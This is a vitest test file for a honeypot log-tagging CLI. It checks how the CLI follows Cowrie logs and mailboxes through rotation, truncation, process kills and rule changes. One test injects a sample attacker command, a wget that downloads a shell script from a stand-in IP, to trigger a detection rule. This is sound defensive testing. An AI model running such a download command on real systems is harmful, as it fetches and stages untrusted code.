import {
  appendFileSync,
  copyFileSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  truncateSync,
  utimesSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { setTimeout as delay } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import SqliteConnection from 'better-sqlite3'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TagRow } from '../src/exports/tag-row.js'
import { CAPTURE, captureBytes, captureLines } from './support/capture.js'
import { FollowingCli } from './support/follow-cli.js'
import { abuseipdbCheck } from './support/provider-answers.js'
import { ruleText } from './support/rule-text.js'
import { linesOf, runCli } from './support/run-cli.js'
import { writeFiles } from './support/write-files.js'

const PATIENCE = 240_000

let home: string
/** One rule over every command: quick to load, and each command gives a tag. */
let rules: string
let place = 0

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'decnet-ttp-follow-'))
  rules = writeFiles(join(home, 'rules'), {
    'R9001.yaml': ruleText({ id: 'R9001', match: '{ field: command_text, pattern: "^[a-z]" }' }),
  })
})
afterAll(() => {
  rmSync(home, { recursive: true, force: true })
})

/** A folder for one test. */
function newFolder(): string {
  const folder = join(home, String(place++))
  mkdirSync(folder)
  return folder
}

const commandLine = (command: string) =>
  `${JSON.stringify({
    eventid: 'cowrie.command.input',
    input: command,
    message: `CMD: ${command}`,
    sensor: 'decky-01',
    timestamp: '2026-11-20T10:00:00.000000Z',
    session: 'a1b2c3d4e5f6',
    src_ip: '203.0.113.5',
  })}\n`

const excerpts = (cli: FollowingCli) =>
  cli.rows.map((row) => ((JSON.parse(row) as TagRow).evidence as { excerpt?: string }).excerpt)

/** Numbers that follow from a seed. */
function* numbers(seed: number): Generator<number, never> {
  for (let state = seed; ; ) {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0
    yield state / 2 ** 32
  }
}

function uuidsIn(database: string): readonly string[] {
  const connection = new SqliteConnection(database, { readonly: true })
  try {
    return connection.prepare('SELECT uuid FROM ttp_tag ORDER BY uuid').pluck().all() as string[]
  } finally {
    connection.close()
  }
}

function includesAll(found: readonly string[], expected: readonly string[]): boolean {
  const all = new Set(found)
  return expected.every((uuid) => all.has(uuid))
}

function holderOf(lock: string): number | null {
  try {
    return (JSON.parse(readFileSync(lock, 'utf8')) as { pid: number }).pid
  } catch {
    return null
  }
}

/** Rotates as logrotate does, in one of its ways. */
function rotate(log: string, way: 'rename' | 'copy'): void {
  for (let age = 30; age >= 1; age--) {
    for (const ending of ['', '.gz']) {
      const from = `${log}.${age}${ending}`
      if (existsSync(from)) renameSync(from, `${log}.${age + 1}${ending}`)
    }
  }
  if (way === 'rename') renameSync(log, `${log}.1`)
  else {
    copyFileSync(log, `${log}.1`)
    truncateSync(log)
  }
}

function pack(path: string): void {
  writeFileSync(`${path}.gz`, gzipSync(readFileSync(path)))
  rmSync(path)
}

describe('tag --follow', () => {
  it(
    'gives what one run over everything gives, however often it is stopped and killed and the log rotated',
    async () => {
      const folder = newFolder()
      const [log, database, state] = ['cowrie.json', 'tags.db', 'tags.state'].map((name) => join(folder, name)) as [
        string,
        string,
        string,
      ]
      const args = [log, '--state', state, '--db', `sqlite:${database}`]
      const bytes = captureBytes()
      const next = numbers(20_261_120)
      let written = 0
      const write = (share: number) => {
        const end = Math.min(bytes.length, written + Math.ceil(bytes.length * share))
        // A rotation comes between two lines; a follower may come at any byte.
        const cut = bytes.indexOf(0x0a, end) + 1 || bytes.length
        for (const stop of [Math.max(written, Math.min(end, cut - 5)), cut]) {
          appendFileSync(log, bytes.subarray(written, stop))
          written = stop
        }
      }
      for (let round = 0; round < 20; round++) {
        const cli = new FollowingCli(args, folder)
        write(next.next().value * 0.06)
        await cli.until(() => holderOf(`${state}.lock`) === cli.pid)
        // From then on no line was written before anybody followed.
        if (round === 0) await cli.until(() => existsSync(state))
        await delay(next.next().value * 800)
        if (round % 4 === 1) rotate(log, round % 8 === 1 ? 'rename' : 'copy')
        write(next.next().value * 0.03)
        if (round % 6 === 3 && existsSync(`${log}.1`)) pack(`${log}.1`)
        await delay(next.next().value * 600)
        await cli.kill(next.next().value < 0.6 ? 'SIGKILL' : 'SIGTERM')
      }
      write(1)
      const whole = join(folder, 'whole.db')
      await runCli(['tag', CAPTURE, '--db', `sqlite:${whole}`])
      const stream = join(folder, 'stream.db')
      const streamed = ['--state', join(folder, 'other.state'), '--db', `sqlite:${stream}`]
      await runCli(['tag', CAPTURE, ...streamed])
      const expected = uuidsIn(stream)
      const before = readFileSync(state, 'utf8')
      const cli = new FollowingCli(args, folder)
      // Earlier runs may have concluded all of it; this one has lines to read, and keeps that it did.
      await cli.until(() => readFileSync(state, 'utf8') !== before)
      await cli.until(() => cli.stderr.includes('late') || includesAll(uuidsIn(database), expected))
      expect(await cli.kill('SIGTERM')).toBe(0)
      const found = new Set(uuidsIn(database))
      expect(expected.filter((uuid) => !found.has(uuid))).toEqual([])
      // What is not over yet is concluded a little earlier or later, and never otherwise.
      expect(uuidsIn(whole)).toEqual(expect.arrayContaining([...found]))
      const kept = JSON.parse(readFileSync(state, 'utf8')) as { correlation: { losses: unknown } }
      expect(kept.correlation.losses).toEqual({ late: 0, evicted: 0 })
    },
    PATIENCE,
  )

  it('prints tags as lines come, waits for the end of a line, and keeps what it was told on SIGTERM', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    const args = [log, '--rules', rules, '--output', 'jsonl', '--state', join(folder, 'state')]
    const cli = new FollowingCli(args, folder)
    await cli.until(() => cli.stderr.includes('waiting for it'))
    appendFileSync(log, commandLine('first'))
    await cli.until(() => cli.rows.length === 1)
    const line = commandLine('second')
    appendFileSync(log, line.slice(0, 40))
    await delay(1200)
    expect(cli.rows).toHaveLength(1)
    appendFileSync(log, line.slice(40) + commandLine('third').slice(0, -1))
    await cli.until(() => cli.rows.length === 2)
    expect(await cli.kill('SIGTERM')).toBe(0)
    expect(excerpts(cli)).toEqual(['first', 'second'])
    expect(existsSync(join(folder, 'state.lock'))).toBe(false)

    appendFileSync(log, `\n${commandLine('fourth')}`)
    const again = new FollowingCli(args, folder)
    await again.until(() => again.rows.length === 2)
    expect(await again.kill('SIGINT')).toBe(130)
    expect(excerpts(again)).toEqual(['third', 'fourth'])
  })

  it('reads what a rotation left unread, also where it was copied or packed while nobody followed', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    const args = [log, '--rules', rules, '--output', 'jsonl', '--state', join(folder, 'state')]
    writeFileSync(log, commandLine('one'))
    const first = new FollowingCli(args, folder)
    await first.until(() => first.rows.length === 1)
    await first.kill('SIGTERM')
    appendFileSync(log, commandLine('two'))
    rotate(log, 'copy')
    pack(`${log}.1`)
    appendFileSync(log, commandLine('three'))
    rotate(log, 'rename')
    writeFileSync(log, commandLine('four'))
    const second = new FollowingCli(args, folder)
    await second.until(() => second.rows.length === 3)
    await second.kill('SIGTERM')
    expect(excerpts(second).sort()).toEqual(['four', 'three', 'two'])
  })

  it('tells that a file was cut off, and goes on from its start', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    writeFileSync(log, commandLine('one') + commandLine('two'))
    const cli = new FollowingCli([log, '--rules', rules, '--output', 'jsonl'], folder)
    await cli.until(() => cli.rows.length === 2)
    writeFileSync(log, commandLine('three'))
    await cli.until(() => cli.rows.length === 3)
    await cli.kill('SIGTERM')
    expect(cli.stderr).toMatch(/cowrie\.json was cut off/)
  })

  it('follows a folder: files that appear, mails, and nothing twice', async () => {
    const folder = newFolder()
    const logs = join(folder, 'logs')
    mkdirSync(logs)
    writeFileSync(join(logs, 'cowrie.json.1'), commandLine('older'))
    // What is named as rotated and is that fresh may be a copy that is still being made.
    utimesSync(join(logs, 'cowrie.json.1'), new Date('2026-11-20'), new Date('2026-11-20'))
    writeFileSync(join(logs, 'cowrie.json'), commandLine('newer'))
    writeFileSync(join(logs, 'notes'), 'nothing that a decoder knows\n')
    const cli = new FollowingCli([logs, '--rules', rules, '--output', 'jsonl'], folder)
    await cli.until(() => cli.rows.length === 2)
    expect(excerpts(cli)).toEqual(['older', 'newer'])
    mkdirSync(join(logs, 'decky-02'))
    writeFileSync(join(logs, 'decky-02', 'cowrie.json'), commandLine('elsewhere'))
    await cli.until(() => cli.rows.length === 3)
    pack(join(logs, 'cowrie.json.1'))
    appendFileSync(join(logs, 'cowrie.json'), commandLine('newest'))
    await cli.until(() => cli.rows.length === 4)
    await delay(3000)
    await cli.kill('SIGTERM')
    expect(excerpts(cli)).toEqual(['older', 'newer', 'elsewhere', 'newest'])
    expect(cli.stderr).toMatch(/passed over in folders: 1 without a known log format/)
  })

  it('reads a mailbox anew when it has grown, and the database has each tag once', async () => {
    const folder = newFolder()
    const [box, database] = [join(folder, 'trap.mbox'), join(folder, 'tags.db')]
    const aboutMails = writeFiles(join(folder, 'rules'), {
      'R9001.yaml': ruleText({ id: 'R9001', appliesTo: 'email', match: '{ field: raw, contains: Subject }' }),
    })
    const mail = (subject: string) =>
      [
        'From a@example.net Fri Nov 20 08:25:04 2026',
        `Received: from mx.example.org ([203.0.113.24]) by mx.example.net id ${subject}; Fri, 20 Nov 2026 08:25:04 +0000`,
        'From: a@example.net',
        'To: b@example.com',
        `Subject: ${subject}`,
        '',
        'text',
        '',
        '',
      ].join('\n')
    writeFileSync(box, mail('one'))
    const cli = new FollowingCli(
      [box, '--rules', aboutMails, '--output', 'jsonl', '--db', `sqlite:${database}`],
      folder,
    )
    await cli.until(() => cli.rows.length === 1)
    appendFileSync(box, mail('two'))
    await cli.until(() => cli.rows.length === 3)
    await cli.kill('SIGTERM')
    const [first, again, second] = cli.rows.map((row) => (JSON.parse(row) as TagRow).uuid)
    expect(again).toBe(first)
    expect(uuidsIn(database)).toEqual([first, second].sort())
  })

  it('states what third parties say of attackers that come', async () => {
    const folder = newFolder()
    const [log, answers] = [join(folder, 'cowrie.json'), join(folder, 'abuseipdb.json')]
    writeFileSync(answers, JSON.stringify(abuseipdbCheck('203.0.113.5')))
    const cli = new FollowingCli([log, '--intel', answers, '--output', 'jsonl'], folder)
    await cli.until(() => cli.stderr.includes('waiting for it'))
    appendFileSync(log, commandLine('wget http://203.0.113.9/x.sh'))
    const rulesOf = () => cli.rows.map((row) => (JSON.parse(row) as TagRow).rule_id)
    await cli.until(() => rulesOf().includes('R0054'))
    expect(await cli.kill('SIGTERM')).toBe(0)
    expect(rulesOf()).toContain('R0012')
  })

  it('judges by rules that change meanwhile', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    const changing = writeFiles(join(folder, 'rules'), {
      'R9001.yaml': ruleText({ id: 'R9001', match: '{ field: command_text, equals: before }' }),
    })
    writeFileSync(log, commandLine('before') + commandLine('after'))
    const cli = new FollowingCli([log, '--rules', changing, '--watch-rules', '--output', 'jsonl'], folder)
    await cli.until(() => cli.rows.length === 1)
    const rule = ruleText({ id: 'R9001', match: '{ field: command_text, equals: after }' })
    writeFileSync(join(changing, 'R9001.yaml'), rule.replace('rule_version: 1', 'rule_version: 2'))
    while (cli.rows.length === 1) {
      appendFileSync(log, commandLine('after'))
      await delay(300)
    }
    await cli.kill('SIGTERM')
    expect(excerpts(cli).slice(0, 2)).toEqual(['before', 'after'])
  })

  it('refuses what it makes no sense with', async () => {
    const folder = newFolder()
    const summary = await runCli(['tag', CAPTURE, '--follow'])
    expect(summary).toMatchObject({ status: 2, stdout: '', stderr: expect.stringContaining('--output jsonl') })
    const named = ['--follow', '--output', 'summary', '--db', `sqlite:${join(folder, 'tags.db')}`]
    expect(await runCli(['tag', CAPTURE, ...named])).toMatchObject({ status: 2 })
    const stdin = await runCli(['tag', '-', '--follow', '--output', 'jsonl'])
    expect(stdin).toMatchObject({ status: 2, stderr: expect.stringContaining('leave out --follow') })
    const verify = await runCli(['tag', CAPTURE, '--follow', '--output', 'jsonl', '--verify-replay'])
    expect(verify).toMatchObject({ status: 2, stderr: expect.stringContaining('files that end') })
  })

  it('lets one run have a state at a time, and takes it over from one that was killed', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    writeFileSync(log, commandLine('one'))
    const args = [log, '--rules', rules, '--output', 'jsonl', '--state', join(folder, 'state')]
    const cli = new FollowingCli(args, folder)
    await cli.until(() => cli.rows.length === 1)
    const other = await runCli(['tag', ...args], { cwd: folder })
    expect(other).toMatchObject({ status: 2, stderr: expect.stringMatching(/in use by process \d+/) })
    await cli.kill('SIGKILL')
    expect(await runCli(['tag', ...args], { cwd: folder })).toMatchObject({ status: 0 })
  })

  it('stops at a refused line with --strict, which is refused again', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    writeFileSync(log, `${commandLine('one')}{"half\n`)
    const args = [log, '--rules', rules, '--output', 'jsonl', '--state', join(folder, 'state'), '--strict']
    for (let attempt = 0; attempt < 2; attempt++) {
      const cli = new FollowingCli([...args, '--format', 'cowrie'], folder)
      expect(await cli.ended()).toBe(2)
      expect(cli.stderr).toMatch(/cowrie\.json:2:\d+ refused/)
    }
  })

  it('numbers lines from the start of the file, also after it went on', async () => {
    const folder = newFolder()
    const log = join(folder, 'cowrie.json')
    writeFileSync(log, commandLine('one'))
    const args = [log, '--rules', rules, '--output', 'jsonl', '--state', join(folder, 'state')]
    const first = new FollowingCli(args, folder)
    await first.until(() => first.rows.length === 1)
    await first.kill('SIGTERM')
    appendFileSync(log, `{"half\n${commandLine('three')}`)
    const second = new FollowingCli(args, folder)
    await second.until(() => second.rows.length === 1)
    await second.kill('SIGTERM')
    expect(second.stderr).toMatch(/cowrie\.json:2:\d+ refused/)
  })

  it('keeps nothing beyond tags that a database did not take, and fails', async () => {
    const folder = newFolder()
    const database = join(folder, 'tags.db')
    await runCli(['tag', CAPTURE, '--rules', rules, '--db', `sqlite:${database}`])
    const connection = new SqliteConnection(database)
    connection.exec("CREATE TRIGGER refuse BEFORE INSERT ON ttp_tag BEGIN SELECT RAISE(FAIL, 'refused'); END")
    connection.close()
    const log = join(folder, 'cowrie.json')
    writeFileSync(log, linesOf(captureLines().join('\n')).join('\n') + commandLine('new'))
    const state = join(folder, 'state')
    const cli = new FollowingCli([log, '--rules', rules, '--db', `sqlite:${database}`, '--state', state], folder)
    expect(await cli.ended()).toBe(1)
    expect(cli.stderr).toMatch(/are not kept/)
    expect(existsSync(state)).toBe(false)
  })
})
